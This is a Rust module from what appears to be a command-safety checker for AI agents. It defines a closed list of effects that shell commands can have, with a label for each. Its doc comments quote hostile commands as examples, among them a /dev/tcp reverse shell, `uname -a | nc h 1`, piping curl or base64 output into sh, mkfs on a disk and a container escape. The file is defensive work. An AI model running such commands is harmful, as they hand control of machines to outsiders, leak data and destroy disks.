//! Effects: what a command does to the world outside of itself.
//!
//! Effects are the language between the two halves of the crate. Below, models of programs and the
//! evaluation of the shell report [`Effect`]s. Above, the judge decides over effects alone, so that
//! no spelling of a command changes its verdict. Each effect comes as a [`Found`]: with the
//! invocation that causes it, its place in the text, and whether it certainly happens.
//!
//! # Labels
//!
//! Rules, examples and shown checks name an effect by its label, [`Effect::label`]:
//! `delete:workspace:recursive`, `network:send`, `code:network`, `environment_poison`. Labels are
//! part of the configuration and of the shown check, so they never change, even where a Rust name
//! here does.
//!
//! The list is closed. A new kind of effect does not compile until every judge has said what it
//! thinks of it.

use crate::ir::Span;
use crate::value::Value;

/// Something that an invocation does to the world outside of itself.
///
/// A variant says what happens, and its fields say to what. Fields that a person reads (`what`,
/// `how`, `why`) hold a few words and no secret.
#[derive(Clone, Debug, PartialEq)]
pub enum Effect {
    /// It does something with a file or folder: `rm x`, `> out`, `cat /etc/passwd`.
    File(FileEffect),
    /// It works on a disk itself: it writes to one, mounts, partitions, or makes a file system
    /// (`mkfs.ext4 /dev/sda1`).
    Device {
        /// What is done, for a reader: `mkfs`.
        what: String,
    },
    /// It sends something to another machine, or fetches something from it: `curl`, `git push`.
    Network {
        /// The host, as far as it is known.
        host: Value,
        /// The port, if it is written.
        port: Option<u16>,
        /// True if something is fetched.
        fetches: bool,
        /// What is sent.
        sends: Payload,
    },
    /// It waits for others to connect: `nc -l 80`, `python3 -m http.server`.
    Listen {
        /// The port, if it is written.
        port: Option<u16>,
    },
    /// It runs code that is not the text of this command: a script in a file, a package, standard
    /// input.
    Code {
        /// Where the code comes from.
        from: CodeFrom,
    },
    /// It runs something that is not known, because a word is not known: `$CMD`, `eval "$x"`.
    Dynamic {
        /// Which word is not known, for a reader.
        why: String,
    },
    /// It becomes another user, or gives itself more rights: `sudo`, `setcap`.
    Privilege {
        /// By which program.
        how: String,
    },
    /// It changes users or groups: `useradd`, `passwd`.
    Users,
    /// It changes how the machine runs: power, services, the kernel, the firewall, the clock.
    System(SystemChange),
    /// It ends processes: `kill`, `pkill`.
    Kill {
        /// True if it ends more than it names one by one.
        all: bool,
        /// The process, or the name of it.
        what: Value,
    },
    /// It makes something run later, or at each start: `crontab`, a line in `.bashrc`.
    Persistence(Persistence),
    /// It sets a variable that changes what later programs run, load or trust: `LD_PRELOAD`,
    /// `GIT_SSH_COMMAND`.
    EnvironmentInjection {
        /// The variable.
        name: String,
        /// What it is set to.
        value: Value,
    },
    /// It reads a secret: a key file, a variable with a token, a store of passwords.
    Secret {
        /// What kind of secret, for a reader.
        kind: String,
        /// Where it stands, if it is a file.
        path: Option<Value>,
    },
    /// It shows the whole environment: `env`, `printenv`, `export -p`.
    EnvironmentDump,
    /// It sends away what is on this machine. Several invocations together do this: one reads,
    /// another sends.
    Leak(Leak),
    /// It changes the history of commands, which takes traces away.
    History,
    /// It reaches out of a container, or into files of the kernel: `docker run -v /:/host`.
    ContainerEscape {
        /// By what, for a reader.
        how: String,
    },
    /// It starts copies of itself without end: a fork bomb.
    Bomb,
    /// It changes something at a cloud provider: `aws s3 rm`, `terraform apply`.
    Cloud {
        /// Whose cloud.
        provider: String,
        /// True if something is deleted.
        destroys: bool,
    },
    /// It changes a database: `DROP TABLE`, `redis-cli flushall`.
    Database {
        /// True if data are deleted.
        destroys: bool,
    },
    /// It may lose work that is not committed: `git reset --hard`, `git clean -f`.
    VersionControlLoss,
    /// It changes a repository on another machine: `git push`.
    VersionControlRemote {
        /// True if it overwrites what is there.
        forced: bool,
        /// True if it deletes a branch or a tag there.
        deletes: bool,
    },
    /// It installs or removes packages, whose scripts run: `apt install`, `npm install`.
    Package {
        /// By which program.
        manager: String,
        /// What is installed or removed.
        source: Value,
        /// True if it installs; false if it removes.
        installs: bool,
    },
    /// It explores a network, or tunnels through it: `nmap`, `ssh -D`.
    Recon,
    /// It mines a currency.
    Mining,
    /// It joins a shell to a network connection: `bash -i >& /dev/tcp/h/1 0>&1`.
    RemoteShell,
    /// The program has no model, or an option of it is not known, so it may do anything.
    Unmodelled {
        /// The program.
        program: String,
        /// What is not known of it, for a reader.
        why: String,
    },
}

/// What is sent away, the worst last.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Leak {
    /// A file, or what a program says of this machine: `uname -a | nc h 1`.
    Local,
    /// The environment, which usually holds secrets.
    Environment,
    /// A secret.
    Secret,
}

/// What is done with a file or folder, and where it is.
#[derive(Clone, Debug, PartialEq)]
pub struct FileEffect {
    /// What is done with it.
    pub access: Access,
    /// The path, absolute and without `.` and `..`, as far as it is known.
    pub path: Value,
    /// Whose place the path is. Judges decide by this and seldom by the path.
    pub scope: Scope,
    /// True if everything below is meant as well: `rm -r`, `grep -r`.
    pub recursive: bool,
    /// True if nothing asks and nothing stops it: `rm -f`.
    pub forced: bool,
}

/// What is done with a file.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Access {
    /// Its content is read.
    Read,
    /// Its name or its metadata is read: `ls`, `stat`, `test -f`.
    List,
    /// Its content is changed, or it is created.
    Write,
    /// It is deleted.
    Delete,
    /// Its mode, owner, times or attributes are changed: `chmod`, `touch`.
    Meta,
    /// It is moved away. What happens at the other end is a [`Access::Write`].
    Move,
    /// A link is created at this path.
    Link,
    /// It is run as a program or read as code.
    Execute,
}

/// Whose place a path is. [`crate::place::scope`] decides it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Scope {
    /// A file or folder within the workspace that is not protected.
    Workspace,
    /// The workspace itself, or a folder above it: whoever changes one changes the workspace.
    WorkspaceRoot,
    /// What version control in the workspace runs or trusts: `.git/hooks`, `.git/config`.
    VersionControl,
    /// What agents, editors, shells and package managers obey or run when they start in the
    /// workspace: `AGENTS.md`, `.claude`, `.vscode`, `.npmrc`.
    AgentConfig,
    /// A folder for temporary files.
    Temp,
    /// A folder that the owner lets agents read and not write.
    ReadRoot,
    /// Anything else in a home folder.
    Home,
    /// What runs when a shell, a session or the machine starts: `.bashrc`, `.profile`, autostart,
    /// `/etc/profile.d`.
    Startup,
    /// Keys, tokens, passwords: `~/.ssh`, `~/.aws`, `.env`, `/etc/shadow`.
    Secret,
    /// Anything else outside of the workspace: `/etc`, `/usr`, `/var`, `/srv`.
    System,
    /// A device that keeps nothing: `/dev/null`, a terminal.
    HarmlessDevice,
    /// Any other device: a disk, memory.
    Device,
    /// `/proc` and `/sys`, by which the kernel is read and set.
    Kernel,
    /// A path that the owner denies, whatever else it is.
    Denied,
    /// The path is not known well enough to say.
    Unknown,
}

/// What a program sends to another machine, besides the request.
#[derive(Clone, Debug, PartialEq)]
pub enum Payload {
    /// Nothing.
    None,
    /// A text that stands in the command.
    Text,
    /// The content of a file.
    File(Value),
    /// What the program reads on standard input.
    Stdin,
}

/// Where code comes from that a program runs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CodeFrom {
    /// A file, whose path is an effect of its own.
    File,
    /// The text of the command, in this language: `python -c`. It was searched as far as the
    /// language is known.
    Inline(String),
    /// Standard input.
    Stdin,
    /// The network, without a file between: `curl … | sh`.
    Network,
    /// The output of a decoder: `base64 -d | sh`.
    Decoded,
    /// A file that was fetched or written by the same command.
    Fetched,
    /// A script of a package or a build file, by the program that runs it: `npm test`, `make`.
    Project(String),
    /// A package that is fetched in order to run it: `npx`, `uvx`.
    Package(String),
    /// A setting, an option or a variable that names a command: a hook, a pager, an alias.
    Setting(String),
}

/// How a command changes the machine as a whole.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum SystemChange {
    /// It turns the machine off or on, or lets it sleep.
    Power,
    /// It starts, stops or enables services.
    Service,
    /// It loads modules or sets parameters of the kernel.
    Kernel,
    /// It changes who may connect.
    Firewall,
    /// It sets the clock.
    Clock,
    /// It changes something else.
    Other,
}

/// How something is made to run later.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Persistence {
    /// By a schedule: `crontab`, `at`, timers.
    Schedule,
    /// As a service.
    Service,
    /// By a file that a shell or a session reads when it starts.
    Startup,
    /// By a hook of version control.
    Hook,
    /// By changing who may log in.
    LogIn,
    /// By a program that stands before another one of the same name in `PATH`.
    Path,
}

/// How certain an effect is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Certainty {
    /// It may happen, because something is not known.
    Unknown,
    /// It happens or not, depending on something that the text does not decide: a branch, the
    /// content of a file.
    May,
    /// It happens if the command runs.
    Must,
}

/// An effect with its evidence: the invocation and the words that cause it.
#[derive(Clone, Debug, PartialEq)]
pub struct Found {
    /// The effect.
    pub effect: Effect,
    /// How certain it is.
    pub certainty: Certainty,
    /// The number of the invocation that has it. None: the shell itself has it, by a redirection or
    /// a builtin.
    pub by: Option<usize>,
    /// The program as it is called, for a person: `rm`.
    pub program: String,
    /// The place of the words that cause it.
    pub span: Span,
}

impl Effect {
    /// A short name, for reports and rules: `write:workspace`, `delete:system:recursive:forced`,
    /// `network:send`, `code:inline:python`.
    #[must_use]
    pub fn label(&self) -> String {
        match self {
            Effect::File(file) => file.label(),
            Effect::Device { .. } => "device".into(),
            Effect::Network { sends: Payload::None, .. } => "network".into(),
            Effect::Network { .. } => "network:send".into(),
            Effect::Listen { .. } => "listen".into(),
            Effect::Code { from } => format!("code:{}", from.label()),
            Effect::Dynamic { .. } => "dynamic".into(),
            Effect::Privilege { .. } => "privilege".into(),
            Effect::Users => "users".into(),
            Effect::System(change) => format!("system:{}", change.label()),
            Effect::Kill { all: true, .. } => "kill:all".into(),
            Effect::Kill { .. } => "kill".into(),
            Effect::Persistence(kind) => format!("persistence:{}", kind.label()),
            Effect::EnvironmentInjection { .. } => "environment_poison".into(),
            Effect::Secret { .. } => "secret".into(),
            Effect::EnvironmentDump => "environment_dump".into(),
            Effect::Leak(leak) => format!("leak:{}", leak.label()),
            Effect::History => "history".into(),
            Effect::ContainerEscape { .. } => "container_escape".into(),
            Effect::Bomb => "bomb".into(),
            Effect::Cloud { destroys, .. } => named("cloud", &[("destroys", *destroys)]),
            Effect::Database { destroys } => named("database", &[("destroys", *destroys)]),
            Effect::VersionControlLoss => "version_control_loss".into(),
            Effect::VersionControlRemote { forced, deletes } => {
                named("version_control_remote", &[("forced", *forced), ("deletes", *deletes)])
            }
            Effect::Package { installs: true, .. } => "package:install".into(),
            Effect::Package { .. } => "package:remove".into(),
            Effect::Recon => "recon".into(),
            Effect::Mining => "mining".into(),
            Effect::RemoteShell => "remote_shell".into(),
            Effect::Unmodelled { .. } => "unmodelled".into(),
        }
    }
}

/// A name with those of its marks that hold.
fn named(name: &str, marks: &[(&str, bool)]) -> String {
    let mut label = name.to_owned();
    for (mark, _) in marks.iter().filter(|(_, holds)| *holds) {
        label.push(':');
        label.push_str(mark);
    }
    label
}

impl FileEffect {
    /// The label: access and scope, with what makes it worse.
    fn label(&self) -> String {
        let name = format!("{}:{}", self.access.label(), self.scope.label());
        named(&name, &[("recursive", self.recursive), ("forced", self.forced)])
    }
}

impl Leak {
    /// The part of the label that names what leaks.
    fn label(self) -> &'static str {
        match self {
            Leak::Local => "local",
            Leak::Environment => "environment",
            Leak::Secret => "secret",
        }
    }
}

impl Access {
    /// The part of the label that names where the code comes from.
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            Access::Read => "read",
            Access::List => "list",
            Access::Write => "write",
            Access::Delete => "delete",
            Access::Meta => "meta",
            Access::Move => "move",
            Access::Link => "link",
            Access::Execute => "execute",
        }
    }
}

impl Scope {
    /// The part of the label that names the change.
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            Scope::Workspace => "workspace",
            Scope::WorkspaceRoot => "workspace_root",
            Scope::VersionControl => "version_control",
            Scope::AgentConfig => "agent_config",
            Scope::Temp => "temp",
            Scope::ReadRoot => "read_root",
            Scope::Home => "home",
            Scope::Startup => "startup",
            Scope::Secret => "secret",
            Scope::System => "system",
            Scope::HarmlessDevice => "harmless_device",
            Scope::Device => "device",
            Scope::Kernel => "kernel",
            Scope::Denied => "denied",
            Scope::Unknown => "unknown",
        }
    }
}

impl CodeFrom {
    /// The part of the label that names the way.
    fn label(&self) -> String {
        match self {
            CodeFrom::File => "file".into(),
            CodeFrom::Inline(language) => format!("inline:{language}"),
            CodeFrom::Stdin => "stdin".into(),
            CodeFrom::Network => "network".into(),
            CodeFrom::Decoded => "decoded".into(),
            CodeFrom::Fetched => "fetched".into(),
            CodeFrom::Project(_) => "project".into(),
            CodeFrom::Package(_) => "package".into(),
            CodeFrom::Setting(_) => "setting".into(),
        }
    }
}

impl SystemChange {
    fn label(self) -> &'static str {
        match self {
            SystemChange::Power => "power",
            SystemChange::Service => "service",
            SystemChange::Kernel => "kernel",
            SystemChange::Firewall => "firewall",
            SystemChange::Clock => "clock",
            SystemChange::Other => "other",
        }
    }
}

impl Persistence {
    fn label(self) -> &'static str {
        match self {
            Persistence::Schedule => "schedule",
            Persistence::Service => "service",
            Persistence::Startup => "startup",
            Persistence::Hook => "hook",
            Persistence::LogIn => "log_in",
            Persistence::Path => "path",
        }
    }
}
